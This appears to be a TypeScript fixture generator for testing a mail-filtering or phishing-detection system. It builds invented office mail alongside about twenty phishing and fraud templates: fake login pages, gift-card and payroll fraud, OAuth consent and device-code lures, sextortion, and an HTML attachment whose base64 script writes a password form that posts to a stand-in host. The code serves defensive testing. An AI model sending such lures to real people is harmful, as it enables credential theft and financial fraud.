/**
 * Mail for the journeys, made at run time from a seed: honest office mail and
 * attacks of many kinds, all with invented names. What a rule's own examples
 * hold is not repeated here, so that a journey is a second opinion.
 */

export type Letter = { readonly messageId: string; readonly kind: string; readonly bytes: Buffer }
export type Reader = { readonly name: string; readonly address: string }

/** Small, repeatable chance (mulberry32). */
export function chance(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

const pick = <T>(random: () => number, list: readonly T[]): T => {
  const one = list[Math.floor(random() * list.length)]
  if (one === undefined) throw new Error('nothing to pick from')
  return one
}

const token = (random: () => number, length = 12): string =>
  Array.from({ length }, () => pick(random, [...'abcdefghijkmnpqrstuvwxyz23456789'])).join('')

const givenNames = [
  'Ada',
  'Bruno',
  'Carla',
  'Dmitri',
  'Elena',
  'Farid',
  'Grace',
  'Hana',
  'Ivo',
  'June',
  'Kofi',
  'Lena',
  'Marek',
  'Nadia',
  'Omar',
  'Pilar',
  'Quentin',
  'Rosa',
  'Sven',
  'Tove',
]
const familyNames = [
  'Abbott',
  'Banerjee',
  'Castillo',
  'Dahl',
  'Eriksen',
  'Fontaine',
  'Garza',
  'Huang',
  'Ito',
  'Jansen',
  'Kaplan',
  'Lindqvist',
  'Moreau',
  'Novak',
  'Okafor',
  'Petrov',
  'Quiroga',
  'Rossi',
  'Sato',
  'Turner',
]
export const inventedName = (random: () => number): string => `${pick(random, givenNames)} ${pick(random, familyNames)}`

type Draft = {
  readonly from: string
  readonly subject: string
  readonly text?: string
  readonly html?: string
  readonly headers?: readonly string[]
  readonly attachment?: { readonly name: string; readonly type: string; readonly content: string }
}

function compose(to: Reader, draft: Draft, messageId: string, date: Date): Buffer {
  const boundary = `b-${messageId.slice(1, 9)}`
  const head = [
    `Message-ID: ${messageId}`,
    `Date: ${date.toUTCString().replace('GMT', '+0000')}`,
    `From: ${draft.from}`,
    `To: "${to.name}" <${to.address}>`,
    `Subject: ${draft.subject}`,
    'MIME-Version: 1.0',
    ...(draft.headers ?? []),
  ]
  const text = draft.text === undefined ? [] : ['Content-Type: text/plain; charset=utf-8', '', draft.text]
  const html = draft.html === undefined ? [] : ['Content-Type: text/html; charset=utf-8', '', draft.html]
  const parts = [text, html].filter((part) => part.length > 0)
  const file = draft.attachment
  if (file) {
    parts.push([
      `Content-Type: ${file.type}; name="${file.name}"`,
      `Content-Disposition: attachment; filename="${file.name}"`,
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(file.content).toString('base64').replace(/.{76}/g, '$&\r\n'),
    ])
  }
  const [only] = parts
  const lines =
    parts.length === 1 && only
      ? [...head, ...only]
      : [
          ...head,
          `Content-Type: multipart/${file ? 'mixed' : 'alternative'}; boundary="${boundary}"`,
          '',
          ...parts.flatMap((part) => [`--${boundary}`, ...part]),
          `--${boundary}--`,
        ]
  return Buffer.from(`${lines.join('\r\n')}\r\n`)
}

const link = (target: string, words: string) => `<a href="${target}">${words}</a>`

/** Attacks, each a trick of its own. `random` draws names, hosts and tokens. */
const attacks: Readonly<Record<string, (random: () => number, to: Reader) => Draft>> = {
  'mailbox-is-full': (r, to) => ({
    from: `"Mail Administrator" <no-reply@${token(r)}.example.net>`,
    subject: 'Your mailbox is 98% full - action required today',
    html: `<p>Dear ${to.address},</p><p>Your mailbox storage is almost full and incoming messages will be suspended within 24 hours. Verify your account to keep your messages.</p><p>${link(`https://${token(r)}.weebly.com/webmail`, 'Verify my account now')}</p><p>IT Help Desk</p>`,
  }),
  'shared-document': (r) => ({
    from: `"SharePoint Online" <share@${token(r)}.example.org>`,
    subject: 'A document has been shared with you: Debate budget Q4.xlsx',
    html: `<p>Microsoft SharePoint</p><p>${inventedName(r)} shared a file with you. Sign in with your email password to view the document. This link expires today.</p><p>${link(`https://${token(r)}.pages.dev/sharepoint/login?u=${token(r)}`, 'Open document')}</p>`,
  }),
  'password-expires': (r, to) => ({
    from: `"Microsoft account team" <security@${token(r)}-msonline.example>`,
    subject: `Password for ${to.address} expires today`,
    html: `<p>Microsoft</p><p>The password for ${to.address} expires today. Keep the same password by confirming your credentials immediately or your account will be locked.</p><p>${link(`http://login-${token(r)}.example/keep`, 'Keep current password')}</p>`,
  }),
  'gift-cards': (r) => ({
    from: `"${inventedName(r)}" <office.${token(r, 6)}@gmail.com>`,
    subject: 'Are you available?',
    text: `Hi,\r\n\r\nI am in a meeting and can't talk. I need you to buy 5 gift cards (Apple or Steam, $100 each) for our volunteers right away. Scratch the back and send me photos of the codes. I will reimburse you today. Keep it between us, it is a surprise.\r\n\r\nSent from my iPhone`,
  }),
  'invoice-with-new-bank': (r) => ({
    from: `"${inventedName(r)}, Accounts" <billing@${token(r)}.example>`,
    subject: `Updated bank details for invoice ${Math.floor(r() * 90000) + 10000}`,
    text: `Hello,\r\n\r\nPlease note that our bank account has changed due to an audit. Kindly send the outstanding payment for the attached invoice to our new account today by wire transfer:\r\n\r\nIBAN: DE${Math.floor(r() * 1e9)}${Math.floor(r() * 1e9)}\r\nAccount name: Westbrook Media Holdings\r\n\r\nDo not use the old bank details any more and confirm once the transfer is done. I am travelling, so please reply by mail only.\r\n\r\nRegards`,
    headers: [`Reply-To: accounts.${token(r, 6)}@gmail.com`],
  }),
  'device-code': (r) => ({
    from: `"Zoom for campaigns" <team@${token(r)}-meet.example>`,
    subject: 'Join the debate prep call',
    text: `Hi,\r\n\r\nthe call has started. To join, open microsoft.com/devicelogin and enter the code ${token(r, 9).toUpperCase()} to sign in. The code is valid for 15 minutes.\r\n\r\nSee you there`,
  }),
  'app-asks-for-consent': (r) => ({
    from: `"Calendar Sync" <hello@${token(r)}.example>`,
    subject: 'Action needed: reconnect your calendar',
    html: `<p>Your calendar lost its connection. Approve access again to keep receiving invitations.</p><p>${link(`https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${crypto.randomUUID()}&response_type=code&redirect_uri=https%3A%2F%2F${token(r)}.example%2Fcb&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.Read.All`, 'Approve access')}</p>`,
  }),
  'page-in-an-attachment': (r) => ({
    from: `"Scanner" <scan@${token(r)}.example>`,
    subject: 'Scanned document from office printer',
    text: 'You received a scanned document. Open the attached file and sign in to view it.',
    attachment: {
      name: 'Scan_0231.html',
      type: 'text/html',
      content: `<html><body><script>var d=atob("${Buffer.from(`<form action=https://${token(r)}.example/p><input type=password></form>`).toString('base64')}");document.write(d);</script></body></html>`,
    },
  }),
  'call-this-number': (r) => ({
    from: `"PayPal Billing" <${token(r, 8)}@gmail.com>`,
    subject: `Order confirmation ${token(r, 8).toUpperCase()}`,
    text: `Dear customer,\r\n\r\nThank you for your purchase. Your PayPal account has been charged $499.99 for Norton 360 annual subscription renewal. If you did not authorize this transaction, call our support team immediately at +1 (808) 555-0${Math.floor(r() * 900) + 100} to cancel and get a refund within 24 hours.\r\n\r\nBilling department`,
  }),
  'change-my-pay': (r) => ({
    from: `"${inventedName(r)}" <${token(r, 8)}@outlook.com>`,
    subject: 'Direct deposit change',
    text: 'Hello,\r\n\r\nI have changed banks and need to update my direct deposit information before the next payroll. What do you need from me? Please make sure it is effective for the current pay period, I would not want it to go to the old account.\r\n\r\nThanks',
  }),
  'new-voicemail': (r, to) => ({
    from: `"Voice Message Center" <vm-${token(r, 5)}@${token(r)}.example>`,
    subject: `New voicemail (0:47) for ${to.name}`,
    html: `<p>You have 1 new voice message in your Office 365 mailbox.</p><p>Caller: unknown. Listen before it is deleted. Sign in with your email account to play the message.</p><p>${link(`https://firebasestorage.googleapis.com/v0/b/${token(r)}/o/play.html?alt=media#${to.address}`, 'Play message')}</p>`,
  }),
  'parcel-fee': (r) => ({
    from: `"DHL Express" <delivery@${token(r)}.example.net>`,
    subject: 'Your parcel is on hold: pay the customs fee',
    html: `<p>DHL</p><p>Your package could not be delivered because a customs fee of $2.99 is unpaid. Pay within 24 hours or it will be returned to the sender.</p><p>${link(`https://bit.ly/${token(r, 7)}`, 'Pay and schedule delivery')}</p>`,
  }),
  'open-redirect': (r) => ({
    from: `"Google Docs" <comments-noreply@${token(r)}.example>`,
    subject: 'You were mentioned in "Opposition research"',
    html: `<p>Google Docs</p><p>${inventedName(r)} mentioned you in a comment. Your session has expired: sign in to your Google account to reply.</p><p>${link(`https://www.google.com/url?q=https%3A%2F%2Faccounts-google.${token(r)}.example%2Fsignin`, 'Reply')}</p>`,
  }),
  'locked-archive': (r) => ({
    from: `"${inventedName(r)}" <press@${token(r)}.example>`,
    subject: 'Documents about your candidate',
    text: `Hi,\r\n\r\nI have the documents we spoke about. They are in the archive below, the password is ${token(r, 6)}. Please open them today before we publish.\r\n`,
    attachment: {
      name: 'documents.zip',
      type: 'application/zip',
      content: `PK\u0003\u0004\u0014\u0000\u0001\u0000\u0008\u0000${token(r, 300)}`,
    },
  }),
  'wallet-must-be-verified': (r) => ({
    from: `"MetaMask Support" <support@${token(r)}.example>`,
    subject: 'Your wallet will be suspended',
    html: `<p>MetaMask</p><p>To comply with regulation you must verify your wallet. Confirm your recovery phrase today or lose access to your wallet.</p><p>${link(`https://${token(r)}.netlify.app/verify`, 'Verify wallet')}</p>`,
  }),
  'we-recorded-you': (r) => ({
    from: `"Security" <${token(r, 9)}@${token(r)}.example>`,
    subject: 'I have access to your device',
    text: `I hacked your device some months ago and recorded you through your camera. Send $1200 in Bitcoin to this wallet: bc1q${token(r, 38)} within 48 hours, or I will send the video to all your contacts. Do not reply and do not contact the police.`,
  }),
  'sign-this-agreement': (r) => ({
    from: `"DocuSign via ${inventedName(r)}" <dse@${token(r)}.example>`,
    subject: 'Completed: please review and sign the attached agreement',
    html: `<p>DocuSign</p><p>${inventedName(r)} sent you a document to review and sign. Log in with your work email and password to access it.</p><p>${link(`https://${token(r)}.r2.dev/sign.html`, 'REVIEW DOCUMENT')}</p>`,
  }),
  'unusual-sign-in': (r, to) => ({
    from: `"Microsoft 365 Security" <alert@${token(r)}.example>`,
    subject: 'Unusual sign-in activity',
    html: `<p>Microsoft account</p><p>We detected an unusual sign-in to ${to.address} from Moscow. If this was not you, secure your account now by confirming your password.</p><p>${link(`https://rnicrosoft-${token(r, 5)}.example/secure`, 'Review recent activity')}</p>`,
  }),
  'bank-account-blocked': (r) => ({
    from: `"Chase Online" <service@${token(r)}.example.org>`,
    subject: 'Your account has been limited',
    html: `<p>Chase</p><p>We noticed suspicious activity and limited your account. Please confirm your identity and card details immediately to restore access.</p><p>${link(`http://${token(r)}.duckdns.org/chase/verify`, 'https://www.chase.com/verify')}</p>`,
  }),
  'app-password-please': (r) => ({
    from: `"Dr. ${inventedName(r)}" <desk@state-dept-${token(r, 4)}.example>`,
    subject: 'Consultation platform: guest access',
    text: `Dear colleague,\r\n\r\nto join our secure consultation platform as a guest, please create an app password in your Google account settings (Security, 2-Step Verification, App passwords), name it "ms.state", and send me the 16-character passcode so that our administrators can add you as a guest tenant.\r\n\r\nKind regards`,
  }),
}
export const attackKinds = Object.keys(attacks)

/** Ordinary mail of an office: nobody should be told of it. */
const honest: readonly ((random: () => number, to: Reader) => Draft)[] = [
  (r, to) => ({
    from: `"${inventedName(r)}" <${token(r, 6)}@westlake-office.example>`,
    subject: `Minutes of ${pick(r, ['Monday', 'Tuesday', 'Friday'])}`,
    text: `Hi ${to.name.split(' ')[0]},\r\n\r\nminutes are below. Next meeting on ${pick(r, ['Monday', 'Wednesday'])} at 10.\r\n\r\n- door knocking: ${Math.floor(r() * 400)} doors\r\n- phone bank: two more volunteers\r\n\r\nBest`,
  }),
  (r) => ({
    from: `"Harbor Print Shop" <orders@harborprint.example>`,
    subject: `Invoice ${Math.floor(r() * 9000)} for yard signs`,
    text: `Thank you for your order.\r\n\r\n${Math.floor(r() * 500)} yard signs, delivered.\r\nTotal: $${Math.floor(r() * 900)}.00, due in 30 days. Bank details as on your account.\r\n\r\nHarbor Print Shop, 12 Quay St`,
  }),
  (r) => ({
    from: `"Riverside Gazette" <newsletter@riversidegazette.example>`,
    subject: `Morning briefing: ${pick(r, ['council vote', 'school budget', 'bridge repairs'])}`,
    html: `<h1>Morning briefing</h1><p>The council meets tonight about the ${pick(r, ['budget', 'bridge', 'library'])}.</p><p>${link(`https://www.riversidegazette.example/story/${token(r, 6)}`, 'Read the story')}</p><p>${link(`https://www.riversidegazette.example/unsubscribe?u=${token(r)}`, 'Unsubscribe')}</p>`,
    text: 'Morning briefing',
    headers: ['List-Unsubscribe: <https://www.riversidegazette.example/unsubscribe>', 'List-Id: <briefing.riversidegazette.example>'],
  }),
  (r, to) => ({
    from: `"${inventedName(r)}" <${token(r, 7)}@gmail.com>`,
    subject: pick(r, ['Volunteering on Saturday', 'Question about the rally', 'Photos from yesterday']),
    text: `Hello ${to.name.split(' ')[0]},\r\n\r\nI would like to help on Saturday. I can bring my car. What time should I be there?\r\n\r\nThanks!`,
  }),
  (r) => ({
    from: `"TrainLine Travel" <tickets@trainline-travel.example>`,
    subject: `Your booking ${token(r, 6).toUpperCase()}`,
    html: `<p>Your tickets for ${pick(r, ['Columbus', 'Dayton', 'Akron'])} are booked. Seat ${Math.floor(r() * 90)}.</p><p>${link(`https://www.trainline-travel.example/booking/${token(r, 8)}`, 'See booking')}</p>`,
    text: 'Your tickets are booked.',
  }),
  (r, to) => ({
    from: `"${inventedName(r)}" <${token(r, 6)}@westlake-office.example>`,
    subject: `Re: ${pick(r, ['press release draft', 'debate questions', 'schedule'])}`,
    text: `Looks good to me, ${to.name.split(' ')[0]}. One change in the second paragraph.\r\n\r\n> Could you look at the draft?\r\n> It goes out at noon.\r\n`,
    headers: [`In-Reply-To: <${token(r)}@westlake-office.example>`],
  }),
  (r) => ({
    from: `"County Clerk" <clerk@county-office.example>`,
    subject: `Filing receipt ${Math.floor(r() * 99999)}`,
    text: 'Your filing was received. No further step is needed. Office hours are 9 to 5.\r\n\r\nOffice of the County Clerk',
  }),
  (r) => ({
    from: `"Grainger Calendar" <calendar@grainger-events.example>`,
    subject: `Invitation: ${pick(r, ['town hall', 'fundraiser dinner', 'staff lunch'])} @ Thu 6pm`,
    text: `You are invited to the ${pick(r, ['town hall', 'dinner'])} on Thursday at 6pm in the community hall. Please tell us by Tuesday if you come.`,
  }),
  (r) => ({
    from: `"Oak Street Deli" <hello@oakstreetdeli.example>`,
    subject: 'Your order is ready',
    html: `<p>Order ${Math.floor(r() * 999)} is ready for pick-up.</p><p>Total $${Math.floor(r() * 80)}.50, paid by card.</p>`,
    text: 'Your order is ready for pick-up.',
  }),
  (r, to) => ({
    from: `"Helpdesk" <helpdesk@westlake-office.example>`,
    subject: 'Printer on the second floor',
    text: `Hi all,\r\n\r\nthe printer on the second floor is out of order until ${pick(r, ['Monday', 'noon'])}. Please use the one in room 12.\r\n\r\n${to.name.split(' ')[0]}, yours will be moved too.`,
  }),
]

let serial = 0
const nextId = (random: () => number): string => `<${Date.now().toString(36)}.${(serial++).toString(36)}.${token(random, 8)}@mail.example>`

export function honestLetter(random: () => number, to: Reader, date = new Date()): Letter {
  const messageId = nextId(random)
  return { messageId, kind: 'honest', bytes: compose(to, pick(random, honest)(random, to), messageId, date) }
}

export function attackLetter(kind: string, random: () => number, to: Reader, date = new Date()): Letter {
  const draft = attacks[kind]
  if (!draft) throw new Error(`no attack is called ${kind}`)
  const messageId = nextId(random)
  return { messageId, kind, bytes: compose(to, draft(random, to), messageId, date) }
}

/** Mails of one campaign: one sender, one lure, one host; each with its own token and reader. */
export function campaignLetter(random: () => number, to: Reader, date = new Date()): Letter {
  const messageId = nextId(random)
  const draft: Draft = {
    from: '"Payroll Services" <payroll@staff-portal-update.example>',
    subject: `${to.name}: confirm your payroll account before Friday`,
    html: `<p>Dear ${to.name},</p><p>Your payroll account must be verified before Friday or your salary is delayed. Sign in with your email and password.</p><p>${link(`https://staff-portal-update.example/login?id=${token(random)}`, 'Verify account')}</p>`,
  }
  return { messageId, kind: 'campaign', bytes: compose(to, draft, messageId, date) }
}
